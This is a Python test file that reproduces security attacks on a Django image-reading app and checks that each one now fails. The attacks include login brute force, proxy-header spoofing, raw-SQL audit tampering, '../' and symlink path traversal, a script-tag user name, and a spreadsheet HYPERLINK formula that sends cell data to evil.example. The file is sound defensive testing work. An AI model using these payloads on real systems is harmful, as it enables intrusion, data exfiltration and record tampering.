"""Attacks of issue 13 on the reading app, each reproduced and shown to fail now.

A hostile user (any role, or anonymous) and a careless coordinator: admin login brute force,
user-name variants around the lockout, a shared proxy address, a password oracle in signing,
writes after the database lock, audit tampering, an image path leading out of the data folder,
a second adjudicator signing another's consensus, spreadsheet formulas in exports, and the
smaller holes of item 10.
"""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest
from conftest import PASSWORD, write_study
from helpers import complete_items


def client_for(user=None, **defaults):  # type: ignore[no-untyped-def]
    from django.test import Client

    client = Client(**defaults)
    if user is not None:
        client.force_login(user)
    return client


def post_json(client, url: str, body) -> object:  # type: ignore[no-untyped-def]
    return client.post(url, json.dumps(body), content_type="application/json")


def logged_in(client) -> bool:  # type: ignore[no-untyped-def]
    return "_auth_user_id" in client.session


def actions() -> list[str]:
    from weeke_pipeline.reading.models import AuditEntry

    return list(AuditEntry.objects.order_by("id").values_list("action", flat=True))


def cli(capsys, data: Path, *args: str) -> tuple[int, str, str]:  # type: ignore[no-untyped-def]
    """``weeke ...`` in-process on the test session's data folder (rolled back like the rest)."""
    from weeke_pipeline.cli import main

    capsys.readouterr()
    try:
        rc = main([*args, "--data", str(data)])
    except SystemExit as exc:  # argparse errors
        rc = int(exc.code or 0)
    out = capsys.readouterr()
    return rc, out.out, out.err


def sign(user, case, items) -> object:  # type: ignore[no-untyped-def]
    from weeke_pipeline.reading import services

    read = services.get_or_create_read(case, user)
    services.save_draft(read, user, items, read.version)
    read.refresh_from_db()
    services.sign(read, user, PASSWORD, read.version)
    read.refresh_from_db()
    return read


# ------------------------------------------------------------------ 1. admin login throttled

def test_admin_login_is_throttled_like_the_app_login(study) -> None:
    client = client_for()
    for _ in range(25):
        client.post("/admin/login/", {"username": "coord", "password": "guess-guess-guess"})
    r = client.post("/admin/login/", {"username": "coord", "password": PASSWORD})
    assert not logged_in(client), "the admin login let the right password in after 25 failures"
    assert "Too many failed logins" in r.content.decode()
    # the first 5 wrong passwords were tried, the 21 attempts after them refused unchecked
    assert actions().count("login.failed") == 5 and actions().count("login.throttled") == 21


# ------------------------------------------------------------------ 2. user-name variants, proxy

@pytest.mark.parametrize("variant", ["reader2 ", " reader2", "reader2\t", "ｒｅａｄｅｒ２"])
def test_lockout_holds_for_user_name_variants(study, variant) -> None:
    for _ in range(5):
        client_for().post("/login/", {"username": "reader2", "password": "wrong-password"})
    client = client_for()
    r = client.post("/login/", {"username": variant, "password": PASSWORD})
    assert not logged_in(client), f"{variant!r} logged in after 5 failures for reader2"
    assert "Too many failed logins" in r.content.decode()


def test_per_address_cap_uses_the_client_address_from_a_trusted_proxy(study) -> None:
    from django.test import override_settings

    with override_settings(WEEKE_TRUSTED_PROXIES=["127.0.0.1"]):
        _proxy_attack()


def _proxy_attack() -> None:
    attacker = {"REMOTE_ADDR": "127.0.0.1", "HTTP_X_FORWARDED_FOR": "203.0.113.5"}
    for n in range(20):  # spraying: a different user name each time, from one client
        client_for(**attacker).post("/login/", {"username": f"nobody{n}", "password": "x"})
    client = client_for(**attacker)
    client.post("/login/", {"username": "reader1", "password": PASSWORD})
    assert not logged_in(client), "the per-address cap did not stop the client behind the proxy"
    # another client behind the same proxy is not locked out by the attacker
    colleague = client_for(REMOTE_ADDR="127.0.0.1",
                           HTTP_X_FORWARDED_FOR="198.51.100.23, 203.0.113.5")
    colleague.post("/login/", {"username": "reader1", "password": PASSWORD})
    assert not logged_in(colleague)  # the proxy appends: the right-most untrusted is the client
    colleague = client_for(REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="198.51.100.23")
    colleague.post("/login/", {"username": "reader1", "password": PASSWORD})
    assert logged_in(colleague)
    # a client talking to the server directly cannot choose its address with the header
    from weeke_pipeline.reading.models import LoginFailure

    direct = {"REMOTE_ADDR": "192.0.2.77"}
    for n in range(20):
        client_for(**direct, HTTP_X_FORWARDED_FOR=f"10.0.0.{n}").post(
            "/login/", {"username": f"nobody{n}", "password": "x"})
    assert LoginFailure.objects.filter(address="192.0.2.77").count() == 20
    client = client_for(**direct, HTTP_X_FORWARDED_FOR="10.9.9.9")
    client.post("/login/", {"username": "reader1", "password": PASSWORD})
    assert not logged_in(client)


# ------------------------------------------------------------------ 3. signing is no oracle

def test_sign_password_failures_are_throttled_audited_and_counted_with_logins(study) -> None:
    code = study["shared"].code
    client = client_for(study["users"]["reader2"])
    url = f"/api/case/{code}/read"
    version = post_json(client, url, {**complete_items(), "version": 1}).json()["version"]
    answers = set()
    for n in range(5):
        r = post_json(client, url + "/sign", {"password": f"guess-{n}", "version": version})
        answers.add((r.status_code, r.content))
    assert answers == {(403, b'{"error": "password incorrect: the read was not signed", '
                              b'"item": null}')}
    r = post_json(client, url + "/sign", {"password": PASSWORD, "version": version})
    assert r.status_code == 429 and "Too many" in r.json()["error"]
    assert actions().count("sign.failed") == 5
    fresh = client_for()
    fresh.post("/login/", {"username": "reader2", "password": PASSWORD})
    assert not logged_in(fresh), "sign failures must count against the login too"


def test_incomplete_draft_answers_the_same_for_right_and_wrong_password(study) -> None:
    code = study["shared"].code
    client = client_for(study["users"]["reader2"])
    url = f"/api/case/{code}/read"
    version = post_json(client, url, {"items": {"gm_plic": {"extent": 0}},
                                      "version": 1}).json()["version"]
    wrong = post_json(client, url + "/sign", {"password": "not-the-password", "version": version})
    right = post_json(client, url + "/sign", {"password": PASSWORD, "version": version})
    assert (wrong.status_code, wrong.content) == (right.status_code, right.content)


# ------------------------------------------------------------------ 4. lock stops every write

def test_lock_stops_cli_import_users_add_and_admin_edits(study, capsys, tmp_path,
                                                         monkeypatch) -> None:
    from django.conf import settings

    from weeke_pipeline.reading import services
    from weeke_pipeline.reading.models import Case

    data = Path(settings.WEEKE_DATA_DIR)
    coord = study["users"]["coord"]
    services.set_lock(coord, True, "primary analysis")
    n_cases = Case.objects.count()
    folders = sorted((data / "images").iterdir())
    rc, _, err = cli(capsys, data, "cases", "import",
                     str(write_study(tmp_path / "late", ("LATE0001",))))
    assert rc != 0 and "locked" in err and Case.objects.count() == n_cases
    assert sorted((data / "images").iterdir()) == folders  # no image copied either
    monkeypatch.setenv("WEEKE_PASSWORD", "a-long-enough-password-1")
    rc, _, err = cli(capsys, data, "users", "add", "latecomer", "--role", "reader")
    assert rc != 0 and "locked" in err
    from django.contrib.auth import get_user_model

    assert not get_user_model().objects.filter(username="latecomer").exists()
    case = study["shared"]
    admin = client_for(coord)
    form = {"code": case.code, "subject": case.subject, "pma_weeks": 39, "pma_days": 1,
            "day_of_life": 3, "sequences": json.dumps(case.sequences),
            "images": json.dumps(case.images)}
    r = admin.post(f"/admin/reading/case/{case.pk}/change/", form)
    case.refresh_from_db()
    assert (case.pma_weeks, case.day_of_life) != (39, 3), "the admin edited a locked database"
    assert r.status_code in (403, 423)
    r = admin.post(f"/admin/auth/user/{study['users']['reader1'].pk}/password/",
                   {"password1": "x-new-password-77", "password2": "x-new-password-77"})
    assert r.status_code in (403, 423)
    study["users"]["reader1"].refresh_from_db()
    assert study["users"]["reader1"].check_password(PASSWORD)
    # reading (and logging in) still works while locked
    reader = client_for()
    reader.post("/login/", {"username": "reader2", "password": PASSWORD})
    assert logged_in(reader) and reader.get("/worklist/").status_code == 200


def test_admin_edits_of_cases_and_users_are_in_the_audit_trail(study) -> None:
    from weeke_pipeline.reading.models import AuditEntry

    case, coord = study["shared"], study["users"]["coord"]
    old_pma = case.pma_weeks
    admin = client_for(coord)
    form = {"pma_weeks": 39, "pma_days": 1, "day_of_life": 3}
    r = admin.post(f"/admin/reading/case/{case.pk}/change/", form)
    assert r.status_code == 302, r.content.decode()[:3000]
    case.refresh_from_db()
    assert case.pma_weeks == 39
    entry = AuditEntry.objects.filter(action="admin.change", object_id=case.code).get()
    assert entry.actor == "coord"
    assert entry.old["pma_weeks"] == old_pma and entry.new["pma_weeks"] == 39
    assert entry.new["day_of_life"] == 3
    r1 = study["users"]["reader1"]
    r = admin.post(f"/admin/auth/user/{r1.pk}/password/",
                   {"password1": "x-new-password-77", "password2": "x-new-password-77"})
    assert r.status_code == 302
    entry = AuditEntry.objects.filter(action="admin.change", object_id="reader1").get()
    assert "password" in json.dumps(entry.new) and "x-new-password-77" not in json.dumps(
        entry.new)


# ------------------------------------------------------------------ 5. audit tampering

def _raw(sql: str, params: list | None = None) -> None:  # type: ignore[type-arg]
    """Run SQL behind Django's back, as a tamperer would; ``%j`` = a JSON parameter."""
    from django.db import connection

    sql = sql.replace("%j", "%s::jsonb" if connection.vendor == "postgresql" else "%s")
    with connection.cursor() as cur:
        cur.execute(sql, params or [])


def test_emptied_audit_tables_are_not_intact(study) -> None:
    from weeke_pipeline.reading import audit

    assert audit.verify().ok
    _raw("DELETE FROM reading_auditentry")
    _raw("DELETE FROM reading_audithead")
    result = audit.verify()
    assert not result.ok and "empty" in result.problem


def test_removed_last_entry_with_updated_head_fails_against_exported_head(study) -> None:
    from weeke_pipeline.reading import audit
    from weeke_pipeline.reading.models import AuditEntry

    head = audit.head()
    last = AuditEntry.objects.order_by("-id").first()
    prev = AuditEntry.objects.filter(id__lt=last.id).order_by("-id").first()
    _raw("DELETE FROM reading_auditentry WHERE id = %s", [last.id])
    _raw("UPDATE reading_audithead SET last_hash = %s", [prev.hash])
    assert audit.verify().ok  # the trail alone cannot tell it was cut
    result = audit.verify(expect_head=head)
    assert not result.ok and "shorter" in result.problem
    bad = audit.verify(expect_head=f"{head.split(':')[0]}:{'f' * 64}")
    assert not bad.ok


def test_rewritten_entry_with_recomputed_keyless_hashes_is_found(study) -> None:
    import hashlib

    from weeke_pipeline.reading import audit
    from weeke_pipeline.reading.models import AuditEntry

    entries = list(AuditEntry.objects.order_by("id"))
    victim = next(e for e in entries if e.action == "case.import")
    # the published formula: SHA-256 of canonical JSON with prev_hash; recompute everything
    prev = "0" * 64
    for e in entries:
        fields = {"timestamp": e.timestamp, "actor": e.actor, "action": e.action,
                  "object_type": e.object_type, "object_id": e.object_id, "old": e.old,
                  "new": e.new, "reason": e.reason, "prev_hash": prev}
        if e.pk == victim.pk:
            fields["new"] = {**e.new, "pma": "30+0"}
        content = {**fields, "timestamp": e.timestamp.isoformat(timespec="microseconds")}
        digest = hashlib.sha256(json.dumps(content, sort_keys=True, separators=(",", ":"),
                                           ensure_ascii=False).encode()).hexdigest()
        _raw("UPDATE reading_auditentry SET new = %j, prev_hash = %s, hash = %s WHERE id = %s",
             [json.dumps(fields["new"]), prev, digest, e.pk])
        prev = digest
    _raw("UPDATE reading_audithead SET last_hash = %s", [prev])
    assert not audit.verify().ok


def test_signed_read_and_setting_edited_in_their_tables_are_found(study) -> None:
    from weeke_pipeline.reading import audit
    from weeke_pipeline.reading import study as study_settings
    from weeke_pipeline.reading.models import Read, StudySetting

    read = sign(study["users"]["reader2"], study["shared"], complete_items())
    study_settings.set_reader_sequences(study["users"]["coord"], "T1w,T2w,ADC,FA", "amendment")
    assert audit.verify().ok
    forged = complete_items(gm_thalamus={"extent": 2, "laterality": 2})
    _raw(f"UPDATE {Read._meta.db_table} SET items = %j WHERE id = %s",
         [json.dumps(forged), read.pk])
    result = audit.verify()
    assert not result.ok and "read" in result.problem and str(read.pk) in result.problem
    _raw(f"UPDATE {Read._meta.db_table} SET items = %j WHERE id = %s",
         [json.dumps(complete_items()), read.pk])
    assert audit.verify().ok
    _raw(f"UPDATE {StudySetting._meta.db_table} SET value = %j", [json.dumps(["T1w"])])
    result = audit.verify()
    assert not result.ok and "reader_sequences" in result.problem


def test_case_ages_edited_in_the_table_are_found(study) -> None:
    from weeke_pipeline.reading import audit
    from weeke_pipeline.reading.models import Case

    case = study["shared"]
    client_for(study["users"]["coord"]).post(f"/admin/reading/case/{case.pk}/change/",
                                             {"pma_weeks": 41, "pma_days": 2, "day_of_life": 9})
    assert audit.verify().ok  # the admin's change is in the trail
    _raw(f"UPDATE {Case._meta.db_table} SET day_of_life = 30 WHERE id = %s", [case.pk])
    result = audit.verify()
    assert not result.ok and case.code in result.problem and "day_of_life" in result.problem
    _raw(f"UPDATE {Case._meta.db_table} SET day_of_life = 9 WHERE id = %s", [case.pk])
    assert audit.verify().ok
    _raw(f"INSERT INTO {Case._meta.db_table} (code, subject, session, sequences, images, "
         "imported_at) VALUES ('WK-FAKE00', 'INSERTED', '', %j, %j, %s)",
         ['["T2w"]', "{}", "2026-01-01"])
    result = audit.verify()
    assert not result.ok and "WK-FAKE00" in result.problem


def test_a_trail_from_before_the_key_is_upgraded_and_stays_checked(db) -> None:
    from django.utils import timezone

    from weeke_pipeline.reading import audit
    from weeke_pipeline.reading.models import AuditEntry, AuditHead

    # a database written by the previous version: plain SHA-256 chain, head not keyed
    _raw("DELETE FROM reading_auditentry")
    _raw("DELETE FROM reading_audithead")
    prev = audit.GENESIS
    for n in range(3):
        fields = {"timestamp": timezone.now(), "actor": "cli", "action": "user.create",
                  "object_type": "user", "object_id": f"old{n}", "old": None,
                  "new": {"role": "reader"}, "reason": "", "prev_hash": prev}
        AuditEntry(**fields, hash=audit.entry_hash(None, **fields)).save()
        prev = AuditEntry.objects.order_by("-id").first().hash
    AuditHead.objects.create(pk=1, last_hash=prev, keyed=False)
    audit.ensure_keyed()  # what the first command after the upgrade does (post_migrate)
    key_entry = AuditEntry.objects.order_by("-id").first()
    assert key_entry.action == "audit.key" and key_entry.new["previous_entries"] == 3
    audit.record("cli", "user.create", object_type="user", object_id="new")
    assert audit.verify().ok
    # rewriting an old entry and recomputing the old chain breaks the keyed entry's commitment
    old = list(AuditEntry.objects.order_by("id"))[:3]
    prev = audit.GENESIS
    for e in old:
        fields = {"timestamp": e.timestamp, "actor": "mallory" if e is old[0] else e.actor,
                  "action": e.action, "object_type": e.object_type, "object_id": e.object_id,
                  "old": e.old, "new": e.new, "reason": e.reason, "prev_hash": prev}
        digest = audit.entry_hash(None, **fields)
        _raw("UPDATE reading_auditentry SET actor = %s, prev_hash = %s, hash = %s WHERE id = %s",
             [fields["actor"], prev, digest, e.pk])
        prev = digest
    _raw("UPDATE reading_auditentry SET prev_hash = %s WHERE id = %s", [prev, key_entry.pk])
    result = audit.verify()
    assert not result.ok and result.entry_id == key_entry.pk


def test_a_wrong_audit_key_is_named(study, monkeypatch) -> None:
    from weeke_pipeline.reading import audit

    monkeypatch.setenv("WEEKE_AUDIT_KEY", "not-the-key-the-trail-was-written-with")
    result = audit.verify()
    assert not result.ok and "not the one this trail was written with" in result.problem


def test_audit_head_and_expect_head_from_the_cli(study, capsys) -> None:
    from django.conf import settings

    data = Path(settings.WEEKE_DATA_DIR)
    rc, out, _ = cli(capsys, data, "audit", "head")
    assert rc == 0
    head = out.split()[-1]
    assert ":" in head
    rc, out, _ = cli(capsys, data, "audit", "verify", "--expect-head", head)
    assert rc == 0 and "intact" in out
    page = client_for(study["users"]["coord"]).get("/coordinator/").content.decode()
    from weeke_pipeline.reading import audit

    assert f'<code id="audit-head">{audit.head()}</code>' in page  # (the login moved it)
    from weeke_pipeline.reading.models import AuditEntry

    last = AuditEntry.objects.order_by("-id").first()
    _raw("DELETE FROM reading_auditentry WHERE id = %s", [last.id])
    rc, out, _ = cli(capsys, data, "audit", "verify", "--expect-head", head)
    assert rc == 1 and "BROKEN" in out


# ------------------------------------------------------------------ 7. image paths confined

@pytest.mark.parametrize("target", ["secret_key", "../../../../../../etc/hostname",
                                    "/etc/hostname", "images/../reading.sqlite3", "symlink"])
def test_image_path_outside_the_images_folder_is_never_served(study, target) -> None:
    from django.conf import settings

    case = study["shared"]
    if target == "symlink":
        link = Path(settings.WEEKE_DATA_DIR) / "images" / case.code / "evil.nii.gz"
        link.unlink(missing_ok=True)
        link.symlink_to(Path(settings.WEEKE_DATA_DIR) / "secret_key")
        target = str(link.relative_to(settings.WEEKE_DATA_DIR))
    case.images = {**case.images, "T2w": target}
    case.save()
    for name in ("reader2", "coord"):
        r = client_for(study["users"][name]).get(f"/case/{case.code}/image/T2w.nii.gz")
        assert r.status_code == 404, (name, target)


# ------------------------------------------------------------------ 8. consensus ownership

def test_a_consensus_belongs_to_the_adjudicator_who_opened_it(study, make_user) -> None:
    from weeke_pipeline.reading.exports import read_records
    from weeke_pipeline.reading.models import Adjudication

    case, u = study["shared"], study["users"]
    sign(u["reader1"], case, complete_items(gm_thalamus={"extent": 1, "laterality": 2}))
    sign(u["reader2"], case, complete_items())
    adj2 = make_user("adj2", "adjudicator")
    first = client_for(u["adj"])
    assert first.get(f"/adjudication/{case.code}/").status_code == 200
    second = client_for(adj2)
    url = f"/api/case/{case.code}/consensus"
    r = post_json(second, url, {**complete_items(), "version": 1})
    assert r.status_code == 403 and "another adjudicator" in r.json()["error"]
    r = post_json(second, url + "/sign", {"password": PASSWORD, "version": 1})
    assert r.status_code == 403
    assert Adjudication.objects.get(case=case).status == "draft"
    assert second.get(f"/adjudication/{case.code}/").status_code == 403
    assert "another adjudicator" in second.get("/adjudication/").content.decode()
    r = post_json(first, url, {**complete_items(), "version": 1})
    r = post_json(first, url + "/sign", {"password": PASSWORD, "version": r.json()["version"]})
    assert r.status_code == 200
    rec = next(x for x in read_records() if x["kind"] == "adjudication")
    from weeke_pipeline.reading.exports import rater_pseudonym

    assert rec["reader"] == rater_pseudonym(u["adj"])


def test_the_coordinator_hands_a_draft_consensus_to_another_adjudicator(study, make_user):
    from weeke_pipeline.reading.models import Adjudication, AuditEntry

    case, u = study["shared"], study["users"]
    sign(u["reader1"], case, complete_items(gm_thalamus={"extent": 1, "laterality": 2}))
    sign(u["reader2"], case, complete_items())
    adj2 = make_user("adj2", "adjudicator")
    assert client_for(u["adj"]).get(f"/adjudication/{case.code}/").status_code == 200
    adj = Adjudication.objects.get(case=case)
    coord = client_for(u["coord"])
    change = f"/admin/reading/adjudication/{adj.pk}/change/"
    r = coord.post(change, {"adjudicator": u["reader1"].pk})  # not an adjudicator: refused
    assert r.status_code == 200 and Adjudication.objects.get(case=case).adjudicator == u["adj"]
    r = coord.post(f"/admin/reading/adjudication/{adj.pk}/change/", {"adjudicator": adj2.pk})
    assert r.status_code == 302
    entry = AuditEntry.objects.get(action="admin.change", object_type="adjudication")
    assert entry.old == {"adjudicator": "adj"} and entry.new == {"adjudicator": "adj2"}
    url = f"/api/case/{case.code}/consensus"
    assert post_json(client_for(u["adj"]), url, {**complete_items(), "version": 1}
                     ).status_code == 403
    r = post_json(client_for(adj2), url, {**complete_items(), "version": 1})
    r = post_json(client_for(adj2), url + "/sign", {"password": PASSWORD,
                                                    "version": r.json()["version"]})
    assert r.status_code == 200
    r = coord.post(f"/admin/reading/adjudication/{adj.pk}/change/", {"adjudicator": u["adj"].pk})
    assert r.status_code == 403  # a signed consensus is not handed over
    assert Adjudication.objects.get(case=case).adjudicator == adj2


# ------------------------------------------------------------------ 9. formulas in exports

def test_exports_neutralise_spreadsheet_formulas(study, capsys, tmp_path) -> None:
    from django.conf import settings

    u = study["users"]
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    na = {"assessable": False, "reason": evil}
    sign(u["reader1"], study["other"], complete_items(gm_hippocampus=na))
    sign(u["reader3"], study["other"], complete_items(
        gm_hippocampus={"assessable": False, "reason": "@SUM(1+1)"}))
    for fmt in ("tsv", "csv"):
        out = tmp_path / fmt
        rc, _, err = cli(capsys, Path(settings.WEEKE_DATA_DIR), "export", "--out", str(out),
                         "--as-user", "analyst", "--format", fmt)
        assert rc == 0, err
        texts = {p.name: p.read_text() for p in out.iterdir() if p.suffix in (".tsv", ".csv")}
        assert any("'=HYPERLINK" in t for t in texts.values())
        for name, text in texts.items():
            sep = "\t" if name.endswith(".tsv") else ","
            import csv
            import io

            for row in csv.reader(io.StringIO(text), delimiter=sep):
                for cell in row:
                    assert cell[:1] not in ("=", "+", "@", "\t", "\r"), (name, cell)
                    if cell.startswith("-"):
                        float(cell)  # a negative number is left as it is


# ------------------------------------------------------------------ 10. smaller holes

@pytest.mark.parametrize("username,password,message", [
    ("", "a-long-enough-password-1", "user name"),
    ("r1 ", "a-long-enough-password-1", "user name"),
    ("<script>alert(1)</script>", "a-long-enough-password-1", "user name"),
    ("reader-long-name", "reader-long-name", "similar"),
])
def test_users_add_refuses_bad_names_and_passwords(db, capsys, monkeypatch, username, password,
                                                   message) -> None:
    from django.conf import settings
    from django.contrib.auth import get_user_model

    monkeypatch.setenv("WEEKE_PASSWORD", password)
    rc, _, err = cli(capsys, Path(settings.WEEKE_DATA_DIR), "users", "add", username,
                     "--role", "reader")
    assert rc != 0 and message in err, err
    assert not get_user_model().objects.filter(username=username).exists()


@pytest.mark.parametrize("username", ["r1é", "r1 x", "<b>r1</b>", "_r1"])
def test_admin_refuses_the_same_user_names(study, username) -> None:
    from django.contrib.auth import get_user_model

    r = client_for(study["users"]["coord"]).post("/admin/auth/user/add/", {
        "username": username, "password1": "a-long-enough-password-1",
        "password2": "a-long-enough-password-1", "usable_password": "true"})
    assert r.status_code == 200 and "ASCII letters" in r.content.decode()
    assert not get_user_model().objects.filter(username=username).exists()


def test_data_folder_database_key_and_images_are_private(tmp_path) -> None:
    import subprocess
    import sys

    here = Path(__file__).resolve().parent
    data = tmp_path / "data"
    study_dir = write_study(tmp_path / "study", ("PERM0001",))
    env = {**os.environ, "WEEKE_PASSWORD": "a-long-enough-password-1"}
    env.pop("WEEKE_DATABASE_URL", None)
    env.pop("DATABASE_URL", None)
    env.pop("WEEKE_SECRET_KEY", None)
    env.pop("WEEKE_AUDIT_KEY", None)
    code = ("import sys, os; os.umask(0o022); sys.path.insert(0, {here!r}); "
            "from weeke_pipeline.cli import main; "
            "sys.exit(main(['cases', 'import', {study!r}, '--data', {data!r}]))")
    r = subprocess.run([sys.executable, "-c", code.format(here=str(here), study=str(study_dir),
                                                          data=str(data))],
                       env=env, capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    files = [data / "reading.sqlite3", data / "secret_key", data / "audit_key",
             *(data / "images").rglob("*.nii.gz")]
    folders = [data, data / "images", *(p for p in (data / "images").rglob("*") if p.is_dir())]
    assert len(files) == 6 and len(folders) == 3
    for p in files:
        assert stat.S_IMODE(p.stat().st_mode) == 0o600, (p, oct(p.stat().st_mode))
    for p in folders:
        assert stat.S_IMODE(p.stat().st_mode) == 0o700, (p, oct(p.stat().st_mode))
    for p in data.glob("reading.sqlite3-*"):
        assert stat.S_IMODE(p.stat().st_mode) & 0o077 == 0, p


def test_consensus_api_errors_are_json(study) -> None:
    client = client_for(study["users"]["adj"])
    for url in (f"/api/case/{study['shared'].code}/consensus", "/api/case/WK-NOPE00/consensus",
                f"/api/case/{study['shared'].code}/consensus/explode"):
        r = client.get(url)
        assert r.status_code == 404 and r["Content-Type"] == "application/json", url
        assert "error" in r.json()


def test_deeply_nested_json_is_a_400_not_a_500(study) -> None:
    client = client_for(study["users"]["reader2"])
    body = "[" * 50_000 + "]" * 50_000
    for url in (f"/api/case/{study['shared'].code}/read",
                "/api/score/weeke-consensus-2025/1.0.0"):
        r = client.post(url, body, content_type="application/json")
        assert r.status_code == 400 and "JSON" in r.json()["error"], url


def test_out_of_range_extent_without_laterality_is_refused_not_pending(study) -> None:
    from weeke_pipeline.reading.models import Read

    client = client_for(study["users"]["reader2"])
    url = f"/api/case/{study['shared'].code}/read"
    r = post_json(client, url, {"items": {"gm_thalamus": {"extent": 99}}, "version": 1})
    assert r.status_code == 400 and "extent" in r.json()["error"]
    assert not Read.objects.filter(items__items__gm_thalamus__extent=99).exists()
    r = post_json(client, url, {"items": {"gm_thalamus": {"extent": 1}}, "version": 1})
    assert r.status_code == 200 and r.json()["pending"] == ["gm_thalamus"]  # still pending
